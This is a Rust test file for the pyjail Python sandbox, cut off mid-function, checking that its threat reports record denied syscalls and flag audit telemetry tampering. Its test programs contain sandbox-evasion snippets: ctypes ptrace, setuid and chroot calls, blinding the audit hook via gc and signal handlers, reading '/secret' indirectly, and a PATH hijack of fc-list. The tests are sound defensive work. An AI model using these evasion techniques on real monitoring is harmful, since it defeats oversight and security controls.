//! Threat reports from real runs of real attacks: what the code looked like
//! (static), what it tried (telemetry, advisory), what the kernel stopped
//! (denials recorded by the supervisor), joined and checked against the
//! published schema (`docs/report.schema.json`).

mod common;

use std::ffi::OsStr;
use std::path::Path;
use std::process::Command;

use common::host::HostDir;
use common::{Jail, Who, CHECKOUT};
use serde_json::Value;

/// Runs `source` in the jail with `--report` and returns the report, after
/// validating it against the schema with Python's `jsonschema`.
fn report_of(source: &str, timeout: &str) -> (Value, common::Outcome) {
    report_with(Jail::code(source), &["--timeout", timeout])
}

/// Runs `jail` with `opts` and `--report`; returns the validated report.
fn report_with(jail: Jail, opts: &[&str]) -> (Value, common::Outcome) {
    let dir = HostDir::new();
    let path = dir.join("report.json");
    let out = jail
        .opts(opts)
        .opts(["--report", path.to_str().unwrap()])
        .run();
    out.assert_bounded();
    out.assert_no_panic();
    validate(&path);
    let text = std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("no report: {e}\n{out}"));
    (serde_json::from_str(&text).expect("report is JSON"), out)
}

fn validate(report: &Path) {
    let schema = Path::new(CHECKOUT).join("docs/report.schema.json");
    let check = Command::new("python3")
        .args([
            "-c",
            "import json, sys, jsonschema\n\
             schema = json.load(open(sys.argv[1]))\n\
             jsonschema.Draft202012Validator(schema).validate(json.load(open(sys.argv[2])))",
        ])
        .arg(&schema)
        .arg(report)
        .output()
        .expect("python3 with jsonschema (scripts/test-deps installs it)");
    assert!(
        check.status.success(),
        "report does not validate against {}:\n{}",
        schema.display(),
        String::from_utf8_lossy(&check.stderr)
    );
}

fn denied_names(report: &Value) -> Vec<String> {
    report["kernel"]["denied"]
        .as_array()
        .unwrap()
        .iter()
        .map(|d| d["name"].as_str().unwrap().to_string())
        .collect()
}

fn tamper_kinds(report: &Value) -> Vec<String> {
    report["runtime"]["telemetry"]["tamper"]
        .as_array()
        .map(|signals| {
            signals
                .iter()
                .map(|s| s["kind"].as_str().unwrap().to_string())
                .collect()
        })
        .unwrap_or_default()
}

#[test]
fn ordinary_program_is_clean() {
    let (report, out) = report_of(
        "import json, collections\n\
         counts = collections.Counter('abracadabra')\n\
         print(json.dumps(counts.most_common(2)))\n",
        "60s",
    );
    out.assert_code(0);
    assert_eq!(report["verdict"], "clean", "{report:#}");
    assert_eq!(report["runtime"]["trusted"], false);
    assert_eq!(
        report["runtime"]["telemetry"]["complete"], true,
        "{report:#}"
    );
    assert_eq!(report["kernel"]["denied_recorded"], 0);
    assert_eq!(report["kernel"]["withdrawn"], 0);
    assert_eq!(report["subject"]["path"], "<string>");
}

/// A report can go to a pipe or a device as well as to a file: `--report
/// /dev/stdout | jq`, or `/dev/null` to keep only the run's own exit code.
#[test]
fn the_report_goes_to_a_pipe_or_a_device() {
    let out = Jail::code("print('program output')")
        .opts(["--report", "/dev/stdout"])
        .run();
    out.assert_code(0);
    let (program, report) = out
        .stdout
        .split_once('\n')
        .unwrap_or_else(|| panic!("no report after the program's output:\n{out}"));
    assert_eq!(program, "program output");
    let report: Value = serde_json::from_str(report).expect("the report is JSON");
    assert_eq!(report["verdict"], "clean", "{report:#}");

    let out = Jail::code("print(1)").opts(["--report", "/dev/null"]).run();
    out.assert_code(0);
    assert!(out.stderr.is_empty(), "{out}");
}

/// `--report -` when nobody reads stderr any more (`2>&1 | head`): the report is lost as
/// pyjail's other lines there are, and the exit code stays the program's, not 125 ("could
/// not write the report"), which a report file that cannot be written still gives.
#[test]
fn a_report_on_a_stderr_nobody_reads_leaves_the_programs_exit_code() {
    for format in ["json", "human"] {
        let mut child = Command::new(common::pyjail())
            .args(["run", "--report", "-", "--report-format", format])
            .args(["-c", "import sys; sys.exit(3)"])
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        drop(child.stdout.take());
        drop(child.stderr.take());
        assert_eq!(child.wait().unwrap().code(), Some(3), "{format}");
    }
    let out = Jail::code("pass").opts(["--report", "/dev/full"]).run();
    out.assert_code(125);
}

#[test]
fn ctypes_ptrace_is_recorded_by_the_kernel_even_with_telemetry_silenced() {
    // Closing fd 3 silences the audit prelude; the kernel's record of the
    // denied ptrace must not depend on it.
    let (report, _) = report_of(
        "import os, ctypes\n\
         os.closerange(3, 4096)\n\
         libc = ctypes.CDLL(None, use_errno=True)\n\
         print(libc.ptrace(16, 1, 0, 0), ctypes.get_errno())\n",
        "60s",
    );
    assert_eq!(report["verdict"], "blocked", "{report:#}");
    assert!(
        denied_names(&report).contains(&"ptrace".to_string()),
        "{report:#}"
    );
    let tamper = tamper_kinds(&report);
    assert!(
        tamper.contains(&"no-end".to_string()),
        "closed fd not flagged: {tamper:?}"
    );
    let chains = report["correlation"].as_array().unwrap();
    assert!(
        chains.iter().any(|c| c["kernel_denials"]
            .as_array()
            .unwrap()
            .iter()
            .any(|d| d["name"] == "ptrace")
            && c["static_findings"]
                .as_array()
                .unwrap()
                .iter()
                .any(|s| s["line"] == 3)),
        "no chain ties the ctypes finding to the ptrace denial: {chains:#?}"
    );
}

#[test]
fn popen_event_carries_the_users_line() {
    let (report, out) = report_of(
        "import subprocess\n\
         \n\
         \n\
         subprocess.Popen(['/bin/true']).wait()\n",
        "60s",
    );
    out.assert_code(0);
    let events = report["runtime"]["telemetry"]["events"].as_array().unwrap();
    let popen = events
        .iter()
        .find(|e| e["event"] == "subprocess.Popen")
        .unwrap_or_else(|| panic!("no Popen event: {report:#}"));
    assert_eq!(popen["line"], 4, "{popen:#}");
    let chain = report["correlation"]
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["kind"] == "process")
        .unwrap_or_else(|| panic!("no process chain: {report:#}"));
    assert_eq!(chain["line"], 4, "{chain:#}");
    assert!(
        chain["static_findings"]
            .as_array()
            .unwrap()
            .iter()
            .any(|f| f["line"] == 4),
        "the Popen finding is not in the chain: {chain:#}"
    );
    assert_ne!(report["verdict"], "clean");
}

#[test]
fn gc_rewrite_of_the_hook_is_flagged() {
    // Find the prelude's hook through the object graph and blind it by
    // rewriting its defaults: the report must say telemetry is not to be trusted.
    let (report, _) = report_of(
        "import gc, types\n\
         gc.unfreeze()\n\
         for obj in gc.get_objects():\n\
         \x20   if isinstance(obj, types.FunctionType) and obj.__defaults__ and obj.__code__.co_filename.startswith('/.pyjail'):\n\
         \x20       try:\n\
         \x20           obj.__defaults__ = tuple(None for _ in obj.__defaults__)\n\
         \x20       except Exception:\n\
         \x20           pass\n\
         import subprocess\n\
         subprocess.run(['/bin/true'])\n",
        "60s",
    );
    let tamper = tamper_kinds(&report);
    assert!(
        tamper.contains(&"tamper-event".to_string()),
        "gc walk not flagged: {tamper:?}\n{report:#}"
    );
    assert_eq!(report["runtime"]["telemetry"]["complete"], false);
    assert_ne!(report["verdict"], "clean");
}

#[test]
fn signal_handler_inside_the_hook_never_crashes_and_is_flagged() {
    // A timer fires often enough that its handler runs while the hook is
    // logging; the handler looks for the hook's frame (to read or rewrite its
    // locals) and raises into it. The program must run to its end, and the
    // report must not call telemetry complete if the hook was interrupted.
    // The handler's own `frame.f_code` is an audit event, so the hook runs
    // inside the handler too; a handler that raised there, re-entered, would
    // throw out of the handler into whatever the program was doing (its
    // `except` clause, under load), so a re-entered handler does nothing.
    // Each interrupted open is read again, so under load the program needs
    // more than the profile's 5 s of CPU: it gets a minute.
    let (report, out) = report_with(
        Jail::code(
            "import signal, os\n\
         seen = []\n\
         busy = False\n\
         def handler(signum, frame):\n\
         \x20   global busy\n\
         \x20   if busy:\n\
         \x20       return\n\
         \x20   busy = True\n\
         \x20   try:\n\
         \x20       if frame is not None and frame.f_code.co_filename.startswith('/.pyjail'):\n\
         \x20           seen.append(frame.f_code.co_name)\n\
         \x20           raise RuntimeError('inside the hook')\n\
         \x20   finally:\n\
         \x20       busy = False\n\
         signal.signal(signal.SIGALRM, handler)\n\
         signal.setitimer(signal.ITIMER_REAL, 0.0002, 0.0002)\n\
         for _ in range(30000):\n\
         \x20   try:\n\
         \x20       os.system\n\
         \x20       open('/work/out.txt', 'w').close()\n\
         \x20   except RuntimeError:\n\
         \x20       pass\n\
         signal.setitimer(signal.ITIMER_REAL, 0, 0)\n\
         signal.signal(signal.SIGALRM, signal.SIG_IGN)\n\
         print('done', len(seen))\n",
        ),
        &["--timeout", "60s", "--cpu", "60s"],
    );
    assert!(
        out.stdout.contains("done"),
        "the program did not finish\n{out}"
    );
    let telemetry = &report["runtime"]["telemetry"];
    let inside: u64 = out
        .stdout
        .trim()
        .rsplit(' ')
        .next()
        .and_then(|n| n.parse().ok())
        .unwrap_or(0);
    if inside > 0 {
        assert_eq!(
            telemetry["complete"], false,
            "the handler ran inside the hook {inside} times but telemetry is called complete: {report:#}"
        );
        let kinds = tamper_kinds(&report);
        assert!(
            kinds
                .iter()
                .any(|k| k == "hook-interrupted" || k == "nested-event"),
            "{kinds:?}"
        );
    }
}

#[test]
fn flood_of_denied_calls_keeps_the_supervisor_bounded() {
    let (report, out) = report_of(
        "import ctypes\n\
         libc = ctypes.CDLL(None)\n\
         for _ in range(100_000):\n\
         \x20   libc.ptrace(0, 0, 0, 0)\n\
         print('flooded')\n",
        "120s",
    );
    out.assert_code(0);
    assert!(out.stdout.contains("flooded"), "{out}");
    let kernel = &report["kernel"];
    assert!(
        kernel["denied_recorded"].as_u64().unwrap() + kernel["withdrawn"].as_u64().unwrap()
            >= 100_000,
        "{kernel:#}"
    );
    let denied = kernel["denied"].as_array().unwrap();
    assert_eq!(denied.len(), 1, "denials not grouped by name: {kernel:#}");
    assert!(
        denied[0]["arguments"].as_array().unwrap().len() <= 8,
        "argument lists not capped: {kernel:#}"
    );
    let rss = out.peak_rss_kib.expect("pyjail's peak RSS was sampled");
    assert!(
        rss < 64 * 1024,
        "pyjail grew to {rss} KiB on a denied-call flood"
    );
}

#[test]
fn flood_of_audit_events_keeps_the_report_complete_and_bounded() {
    // A million count-only events (`id`), then 200,000 forged events of the
    // always-logged tier, each one a record through the pipe.
    let dir = HostDir::new();
    let path = dir.join("report.json");
    let out = Jail::code(
        "import sys\n\
         for i in range(1_000_000):\n\
         \x20   id(i)\n\
         for i in range(200_000):\n\
         \x20   sys.audit('os.kill', 0, 0)\n\
         print('flooded')\n",
    )
    .opts([
        "--timeout",
        "120s",
        "--cpu",
        "60s",
        "--report",
        path.to_str().unwrap(),
    ])
    .bound(std::time::Duration::from_secs(150))
    .run();
    out.assert_code(0);
    assert!(out.stdout.contains("flooded"), "{out}");
    validate(&path);
    let report: Value = serde_json::from_str(&std::fs::read_to_string(&path).unwrap()).unwrap();
    let telemetry = &report["runtime"]["telemetry"];
    assert!(
        telemetry["end"].is_object(),
        "the end record did not survive the flood: {telemetry:#}"
    );
    assert_eq!(
        telemetry["counts"]["builtins.id"], 1_000_000,
        "{telemetry:#}"
    );
    assert_eq!(telemetry["counts"]["os.kill"], 200_000, "{telemetry:#}");
    assert!(telemetry["events"].as_array().unwrap().len() <= 1000);
    let rss = out.peak_rss_kib.expect("pyjail's peak RSS was sampled");
    assert!(
        rss < 64 * 1024,
        "pyjail grew to {rss} KiB on an audit-event flood"
    );
}

#[test]
fn human_report_reads_at_a_glance() {
    let dir = HostDir::new();
    let path = dir.join("report.txt");
    let out = Jail::code("import ctypes\nctypes.CDLL(None).ptrace(0, 0, 0, 0)\n")
        .opts([
            "--report",
            path.to_str().unwrap(),
            "--report-format",
            "human",
        ])
        .run();
    out.assert_code(0);
    let text = std::fs::read_to_string(&path).expect("human report written");
    for needle in [
        "BLOCKED", "static", "runtime", "kernel", "ptrace", "advisory", "chains",
    ] {
        assert!(text.contains(needle), "`{needle}` missing from:\n{text}");
    }
    assert!(!text.contains('\x1b'), "colour codes in a file:\n{text}");
    // Every tamper line listed is counted in the headline, or says why it is not.
    let headline: usize = text
        .split("telemetry may be incomplete: ")
        .nth(1)
        .and_then(|rest| rest.split(' ').next())
        .map_or(0, |n| n.parse().unwrap());
    let counted = text
        .lines()
        .filter(|l| l.trim_start().starts_with("tamper:") && !l.contains("not counted"))
        .count();
    assert_eq!(headline, counted, "{text}");
}

#[test]
fn unparsable_code_is_recorded_and_still_runs() {
    let (report, out) = report_of("print('ran')\nif True print(1)\n", "60s");
    out.assert_code(1);
    let error = &report["static"]["parse_error"];
    assert_eq!(error["line"], 2, "{error:#}");
    assert_ne!(report["verdict"], "clean");
}

/// Code the program hands a library to compile, built where the analyzer saw no code, and
/// a module it writes at run time (text only known then: constant text written to a `.py`
/// file is linted) and imports through a `sys.path` entry spelled from the standard
/// library's directory: the library and the import system only carried it, so the verdict
/// judges the code. Ordinary doctests, timeit statements and dataclasses stay
/// clean.
#[test]
fn code_carried_by_a_library_or_an_import_is_judged_as_the_programs() {
    let doctest = r#"import doctest
def check():
    pass
target = '/se' + 'cret'
check.__doc__ = '>>> print(open(' + repr(target) + ').read())\n'
doctest.testmod()
"#;
    let module = r#"import json, os, sys, tempfile
lib = os.path.dirname(os.path.dirname(json.__file__))
d = tempfile.mkdtemp()
with open(os.path.join(d, 'helpers.py'), 'w') as f:
    f.write(f'try:\n    open("/secret").read()  # {os.getpid()}\nexcept OSError:\n    pass\n')
sys.path.insert(0, os.path.join(lib, os.path.relpath(d, lib)))
import helpers
"#;
    for program in [doctest, module] {
        let (report, _) = report_of(program, "60s");
        assert_eq!(
            report["static"]["findings"],
            serde_json::json!([]),
            "{program}"
        );
        assert_eq!(report["verdict"], "suspicious", "{program}\n{report:#}");
    }
    let ordinary = r#"import dataclasses, doctest, timeit
@dataclasses.dataclass(frozen=True, order=True)
class Point:
    x: int
    y: int = 0
def double(n):
    """
    >>> double(2)
    4
    """
    return 2 * n
print(sorted([Point(2), Point(1, 5)]))
print(doctest.testmod().failed)
print(timeit.timeit('sorted(range(100))', number=10) >= 0)
"#;
    let (report, out) = report_of(ordinary, "60s");
    out.assert_code(0);
    assert_eq!(report["verdict"], "clean", "{report:#}");
}

/// What a program starts through a shell line or a starter (`env`) is accounted for by the
/// audit event that asked for it: `os.system` passes its command as bytes.
#[test]
fn a_shell_line_and_env_account_for_the_programs_they_start() {
    let (report, _) = report_of(
        "import os, subprocess\n\
         os.system('ls / | wc -l; LC_ALL=C sort /etc/hostname > /dev/null')\n\
         subprocess.run([b'env', b'TZ=UTC', b'date'], check=True)\n",
        "60s",
    );
    let execs = report["kernel"]["watched"]["execs"].as_array().unwrap();
    assert!(execs.len() >= 5, "{execs:#?}");
    let unaccounted: Vec<&Value> = execs
        .iter()
        .filter(|e| e["accounted_by"].is_null())
        .collect();
    assert!(unaccounted.is_empty(), "{unaccounted:#?}");
    let reasons = report["reasons"].to_string();
    assert!(!reasons.contains("no audit event accounts"), "{reasons}");
}

/// Held-out programs that start others (`tests/program_starts`, written without sight of the
/// report's code): each file's first line says whether every start is accounted for by an
/// audit event, or which one must not be.
#[test]
fn program_starts_are_accounted_as_each_file_expects() {
    let dir = Path::new(CHECKOUT).join("tests/program_starts");
    let mut files: Vec<_> = std::fs::read_dir(&dir)
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| p.extension().is_some_and(|e| e == "py"))
        .collect();
    files.sort();
    assert_eq!(files.len(), 24);
    let mut wrong = Vec::new();
    for file in &files {
        let source = std::fs::read_to_string(file).unwrap();
        let expect = source.lines().next().unwrap_or("");
        let expect = expect
            .strip_prefix("# expect: ")
            .unwrap_or_else(|| panic!("{file:?}"));
        let (report, out) = report_with(Jail::file(file), &["--timeout", "20s"]);
        out.assert_code(0);
        let unaccounted: Vec<&str> = report["kernel"]["watched"]["execs"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|e| e["accounted_by"].is_null() && e["helper"].is_null())
            .filter_map(|e| e["path"].as_str()?.rsplit('/').next())
            .collect();
        let right = match expect.strip_prefix("unaccounted ") {
            Some(name) => unaccounted.contains(&name),
            None => unaccounted.is_empty(),
        };
        if !right {
            wrong.push(format!(
                "{}: expected {expect}, unaccounted {unaccounted:?}",
                file.display()
            ));
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[test]
fn the_programs_own_ignore_comments_do_not_hide_findings() {
    let (report, _) = report_of(
        "import os\nos.system('true')  # pyjail: ignore[PJ403]\n",
        "60s",
    );
    let findings = report["static"]["findings"].as_array().unwrap();
    assert!(
        findings.iter().any(|f| f["rule_id"] == "PJ403"),
        "{report:#}"
    );
    assert_eq!(report["static"]["ignored_by_comment"], 1);
    assert_ne!(report["verdict"], "clean");
}

/// The denied calls by name with their counts, in the report's order.
fn denied_counts(report: &Value) -> Vec<(String, u64)> {
    report["kernel"]["denied"]
        .as_array()
        .unwrap()
        .iter()
        .map(|d| {
            (
                d["name"].as_str().unwrap().to_string(),
                d["count"].as_u64().unwrap(),
            )
        })
        .collect()
}

#[test]
fn a_signal_cannot_hide_a_denied_call() {
    // Each denied call runs under a one-shot timer of 10-50 us: some are
    // interrupted while their notification waits to be read (the kernel
    // withdraws it, the call returns EINTR), some after. Every attempt must
    // be counted, the withdrawn ones too.
    let (report, out) = report_with(
        Jail::code(
            "import ctypes, errno, json, signal\n\
             libc = ctypes.CDLL(None, use_errno=True)\n\
             signal.signal(signal.SIGALRM, lambda *a: None)\n\
             seen = {'eperm': 0, 'eintr': 0, 'other': 0}\n\
             calls = [(161, b'/'), (105, 0)]\n\
             for i in range(4000):\n\
             \x20   if seen['eintr'] >= 10 and i >= 40:\n\
             \x20       break\n\
             \x20   nr, arg = calls[i % 2]\n\
             \x20   ctypes.set_errno(0)\n\
             \x20   signal.setitimer(signal.ITIMER_REAL, 0.00001 * (1 + i % 5))\n\
             \x20   libc.syscall(nr, arg)\n\
             \x20   e = ctypes.get_errno()\n\
             \x20   signal.setitimer(signal.ITIMER_REAL, 0)\n\
             \x20   seen['eperm' if e == errno.EPERM else 'eintr' if e == errno.EINTR else 'other'] += 1\n\
             print(json.dumps(seen))\n",
        )
        .guarded(),
        &["--timeout", "60s", "--cpu", "50s"],
    );
    out.assert_code(0);
    let seen: Value = serde_json::from_str(out.stdout.trim()).expect("the program's counts");
    let (eperm, eintr) = (
        seen["eperm"].as_u64().unwrap(),
        seen["eintr"].as_u64().unwrap(),
    );
    assert_eq!(seen["other"], 0, "{seen}");
    let kernel = &report["kernel"];
    let (recorded, withdrawn) = (
        kernel["denied_recorded"].as_u64().unwrap(),
        kernel["withdrawn"].as_u64().unwrap(),
    );
    // The program makes no watched call while its timers run: every
    // withdrawn notification is one of its denials.
    let total = recorded + withdrawn;
    eprintln!("attempts: {eperm} EPERM + {eintr} EINTR; kernel: {recorded} recorded + {withdrawn} withdrawn");
    assert_eq!(
        total,
        eperm + eintr,
        "attempts went uncounted: {seen} {kernel:#}"
    );
    // A call interrupted after its notification was read is recorded, yet
    // the program sees EINTR: so the names cover at least the EPERMs.
    assert!(recorded >= eperm && withdrawn <= eintr, "{seen} {kernel:#}");
    assert_eq!(kernel["complete"], true, "{kernel:#}");
    assert_eq!(report["verdict"], "blocked", "{report:#}");
    if withdrawn > 0 {
        assert!(
            out.stderr
                .contains(&format!("{withdrawn} interrupted by a signal")),
            "the summary does not say what was withdrawn:\n{out}"
        );
    }
}

/// The signal a program interrupts its own refused calls with is one it
/// handles: it ends no task, so it accounts for no withdrawal, however many
/// the program sends (each attempt is counted, and none is cleared).
#[test]
fn a_handled_signal_sent_to_itself_accounts_for_no_withdrawal() {
    let (report, out) = report_with(
        Jail::code(
            "import ctypes, json, os, signal, threading\n\
             libc = ctypes.CDLL(None, use_errno=True)\n\
             signal.signal(signal.SIGUSR1, lambda *a: None)\n\
             done = threading.Event()\n\
             def interrupt():\n\
             \x20   while not done.is_set():\n\
             \x20       os.kill(os.getpid(), signal.SIGUSR1)\n\
             threading.Thread(target=interrupt, daemon=True).start()\n\
             seen = {'eperm': 0, 'eintr': 0}\n\
             for _ in range(3000):\n\
             \x20   ctypes.set_errno(0)\n\
             \x20   libc.syscall(161, b'/')\n\
             \x20   seen['eintr' if ctypes.get_errno() == 4 else 'eperm'] += 1\n\
             done.set()\n\
             print(json.dumps(seen))\n",
        )
        .guarded(),
        &["--timeout", "60s", "--cpu", "50s"],
    );
    out.assert_code(0);
    let seen: Value = serde_json::from_str(out.stdout.trim()).expect("the program's counts");
    let kernel = &report["kernel"];
    let count = |v: &Value| v.as_u64().unwrap();
    eprintln!(
        "{seen}; kernel: {} recorded + {} withdrawn",
        kernel["denied_recorded"], kernel["withdrawn"]
    );
    assert_eq!(
        count(&kernel["denied_recorded"]) + count(&kernel["withdrawn"]),
        3000,
        "{kernel:#}"
    );
    assert_eq!(kernel["withdrawn_after_endings"], 0, "{kernel:#}");
    assert_eq!(report["verdict"], "blocked", "{report:#}");
}

/// Processes killed in the middle of their watched calls (as a pool's
/// workers are at its end): each call a kill withdrew is accounted for.
#[test]
fn calls_withdrawn_as_their_processes_are_killed_are_accounted_for() {
    let (report, out) = report_with(
        Jail::code(
            "import os, signal, time\n\
             children = []\n\
             for i in range(8):\n\
             \x20   pid = os.fork()\n\
             \x20   if pid == 0:\n\
             \x20       while True:\n\
             \x20           os.close(os.open('/tmp/loop-%d' % i, os.O_WRONLY | os.O_CREAT, 0o600))\n\
             \x20   children.append(pid)\n\
             time.sleep(0.3)\n\
             for pid in children:\n\
             \x20   os.kill(pid, signal.SIGKILL if pid % 2 else signal.SIGTERM)\n\
             print('ended', all(os.waitpid(pid, 0)[1] & 0x7f in (9, 15) for pid in children))\n",
        )
        .guarded(),
        &["--timeout", "60s"],
    );
    out.assert_code(0);
    assert!(out.stdout.contains("ended True"), "{out}");
    let kernel = &report["kernel"];
    let count = |v: &Value| v.as_u64().unwrap();
    assert_eq!(
        count(&kernel["withdrawn"]),
        count(&kernel["withdrawn_after_endings"]),
        "{kernel:#}"
    );
}

#[test]
fn a_thousand_setuid_calls_do_not_hide_a_chroot() {
    let (report, out) = report_with(
        Jail::code(
            "import ctypes\n\
             libc = ctypes.CDLL(None)\n\
             for i in range(1000):\n\
             \x20   libc.syscall(105, i)\n\
             libc.syscall(161, b'/')\n",
        )
        .guarded(),
        &["--timeout", "60s"],
    );
    out.assert_code(0);
    assert_eq!(
        denied_counts(&report),
        [("setuid".to_string(), 1000), ("chroot".to_string(), 1)],
        "{:#}",
        report["kernel"]
    );
    assert!(
        report["reasons"][0]
            .as_str()
            .unwrap()
            .ends_with("setuid ×1000, chroot"),
        "{:#}",
        report["reasons"]
    );
    assert!(
        out.stderr
            .contains("denied 1001 system call(s): setuid ×1000, chroot"),
        "the summary line does not name chroot:\n{out}"
    );
}

#[test]
fn an_unusable_report_path_stops_the_run_before_the_program() {
    let out = Jail::code("print('the program ran')")
        .opts(["--report", "/nonexistent/dir/r.json"])
        .run();
    out.assert_code(125);
    assert!(!out.stdout.contains("the program ran"), "{out}");
    assert!(out.stderr.contains("/nonexistent/dir/r.json"), "{out}");
}

#[test]
fn report_format_without_report_is_a_usage_error() {
    let out = Jail::code("print('the program ran')")
        .opts(["--report-format", "human"])
        .run();
    out.assert_code(125);
    assert!(!out.stdout.contains("the program ran"), "{out}");
    assert!(out.stderr.contains("--report"), "{out}");
}

#[test]
fn truncated_output_is_said_by_pyjail_not_inside_the_programs_output() {
    let (report, out) = report_with(
        Jail::code("import sys\nsys.stdout.write('x' * 3000)\n"),
        &["--output-limit", "1000"],
    );
    out.assert_code(124);
    assert_eq!(
        out.stdout,
        "x".repeat(1000),
        "the program's output was altered"
    );
    assert!(
        out.stderr
            .contains("stdout truncated: 1000 of 3000 bytes passed on"),
        "{out}"
    );
    let stdout = &report["limits"]["stdout"];
    assert_eq!(
        (&stdout["truncated"], &stdout["shown"], &stdout["bytes"]),
        (&Value::Bool(true), &Value::from(1000), &Value::from(3000))
    );
    assert_eq!(report["verdict"], "limit_exceeded");
}

/// A program at the analyzer's size limit (32 MiB): 20,000 medium findings,
/// then one high one, then a comment to the limit. The analyzer keeps 1,000
/// of them, the high one included, and counts the rest: the report stays
/// small, lists the high finding and counts every rule, and pyjail stays
/// bounded.
#[test]
fn a_32_mib_program_makes_a_bounded_report() {
    let dir = HostDir::new();
    let program = dir.join("big.py");
    let mut source = "getattr(x, input())\n".repeat(20_000);
    source.push_str("print.__globals__\n# ");
    let limit = analyzer::MAX_SOURCE_BYTES as usize;
    source.push_str(&"x".repeat(limit - source.len() - 1));
    source.push('\n');
    assert_eq!(source.len(), limit);
    std::fs::write(&program, &source).unwrap();
    let report_path = dir.join("report.json");
    let out = Jail::file(&program)
        .opts([
            "--file-size",
            "64MiB",
            "--memory",
            "1GiB",
            "--timeout",
            "120s",
            "--cpu",
            "100s",
            "--report",
            report_path.to_str().unwrap(),
        ])
        .bound(std::time::Duration::from_secs(400))
        .run();
    out.assert_bounded();
    out.assert_no_panic();
    let size = std::fs::metadata(&report_path).unwrap().len();
    validate(&report_path);
    let report: Value =
        serde_json::from_str(&std::fs::read_to_string(&report_path).unwrap()).unwrap();
    let section = &report["static"];
    assert_eq!(section["findings_total"], 20_001, "{section:#}");
    let listed = section["findings"].as_array().unwrap();
    assert_eq!(listed.len(), analyzer::MAX_FINDINGS);
    assert!(
        listed.iter().any(|f| f["rule_id"] == "PJ201"),
        "{section:#}"
    );
    assert_eq!(
        section["findings_left_out"],
        20_001 - analyzer::MAX_FINDINGS
    );
    assert_eq!(
        section["by_rule"],
        serde_json::json!([
            {"rule_id": "PJ201", "name": "function-globals", "severity": "high", "count": 1},
            {"rule_id": "PJ501", "name": listed[0]["name"], "severity": "medium", "count": 20_000},
        ])
    );
    assert!(size < 1 << 20, "a {size}-byte report");
    let peak = out.peak_rss_kib.expect("pyjail's peak memory");
    eprintln!(
        "32 MiB program: report {size} bytes, pyjail peak RSS {peak} KiB, {:?} in all",
        out.elapsed
    );
    assert!(peak < 256 << 10, "pyjail grew to {peak} KiB");
}

#[test]
fn a_program_past_the_analyzers_limit_is_recorded_unlinted() {
    let dir = HostDir::new();
    let program = dir.join("huge.py");
    let mut source = String::from("print('ran')\n# ");
    source.push_str(&"x".repeat(analyzer::MAX_SOURCE_BYTES as usize));
    std::fs::write(&program, &source).unwrap();
    let (report, out) = report_with(
        Jail::file(&program),
        &[
            "--file-size",
            "64MiB",
            "--memory",
            "1GiB",
            "--timeout",
            "120s",
        ],
    );
    out.assert_code(0);
    assert!(out.stdout.contains("ran"), "{out}");
    assert_eq!(
        report["static"]["parse_error"]["kind"], "too-large",
        "{:#}",
        report["static"]
    );
    assert_ne!(report["verdict"], "clean");
}

/// Scientific and everyday work under `--profile site-packages`: the kernel
/// must deny nothing it needs (numpy's huge-page allocations call `mbind`),
/// and the verdict is clean.
#[test]
fn scientific_and_everyday_programs_need_nothing_the_kernel_denies() {
    let venv_python = common::test_venv_python();
    let (report, out) = report_with(
        Jail::code(
            "import csv, datetime, decimal, io, json, re, statistics\n\
             import numpy as np\n\
             import pandas as pd\n\
             import matplotlib\n\
             matplotlib.use('Agg')\n\
             import matplotlib.pyplot as plt\n\
             big = np.ones((2048, 2048))\n\
             df = pd.DataFrame({'x': np.arange(100), 'y': np.arange(100) ** 2})\n\
             fig, ax = plt.subplots()\n\
             ax.plot(df['x'], df['y'])\n\
             fig.savefig('plot.png')\n\
             png = open('plot.png', 'rb').read(8)\n\
             rows = io.StringIO()\n\
             csv.writer(rows).writerow([1, 2])\n\
             print(int(big.sum()), int(df['y'].sum()), png == b'\\x89PNG\\r\\n\\x1a\\n',\n\
             \x20     rows.getvalue().strip(), json.dumps({'d': str(decimal.Decimal('0.1') * 3)}),\n\
             \x20     re.findall(r'\\d+', 'a1b22'), statistics.mean([1, 2, 3]),\n\
             \x20     datetime.date(2020, 1, 1).isoformat())\n",
        ),
        &[
            "--profile",
            "site-packages",
            "--python",
            venv_python,
            "--timeout",
            "120s",
            "--cpu",
            "100s",
        ],
    );
    out.assert_code(0);
    assert_eq!(
        out.stdout.trim(),
        "4194304 328350 True 1,2 {\"d\": \"0.3\"} ['1', '22'] 2 2020-01-01",
        "{out}"
    );
    assert_eq!(
        report["kernel"]["denied_recorded"].as_u64().unwrap()
            + report["kernel"]["withdrawn"].as_u64().unwrap(),
        0,
        "the kernel denied calls these programs need: {:#}",
        report["kernel"]["denied"]
    );
    // matplotlib runs fc-list while it is imported, to list the fonts: the
    // import's doing, recorded, not the program's.
    assert_eq!(report["verdict"], "clean", "{:#}", report["reasons"]);
    let events = report["runtime"]["telemetry"]["events"].as_array().unwrap();
    assert!(
        events
            .iter()
            .any(|e| e["event"] == "subprocess.Popen" && e["via"] == "import"),
        "matplotlib's fc-list was not recorded as the import's"
    );
}

/// A program that puts its own `fc-list` first on PATH makes matplotlib's
/// import run it: once the program changed the environment, the process an
/// import starts counts.
#[test]
fn a_process_an_import_starts_counts_once_the_program_changed_path() {
    let venv_python = common::test_venv_python();
    let (report, out) = report_with(
        Jail::code(
            "import os\n\
             with open('fc-list', 'w') as f:\n\
             \x20   f.write('#!/bin/sh\\necho ran > /work/ran\\n')\n\
             os.chmod('fc-list', 0o755)\n\
             os.environ['PATH'] = os.getcwd() + ':' + os.environ['PATH']\n\
             import matplotlib.font_manager\n\
             print(open('/work/ran').read().strip())\n",
        ),
        &[
            "--profile",
            "site-packages",
            "--python",
            venv_python,
            "--timeout",
            "120s",
        ],
    );
    out.assert_code(0);
    assert_eq!(out.stdout.trim(), "ran", "{out}");
    assert_eq!(report["verdict"], "suspicious", "{:#}", report["reasons"]);
}

/// Ordinary APIs make the standard library raise audit events on the program's behalf
/// (dataclasses compile their methods and set defaults, doctest traces, a handled exception's
/// traceback is printed, also at exit, asyncio makes a unix socket pair; a module's class set
/// to customise its attributes, a state machine's object changing its class; constant code
/// the analyzer linted clean, run with `exec`): recorded, but the verdict stays clean. The
/// same capabilities used from the program's own lines, or from a module it wrote, raise it.
#[test]
fn events_raised_on_the_programs_behalf_do_not_make_it_suspicious() {
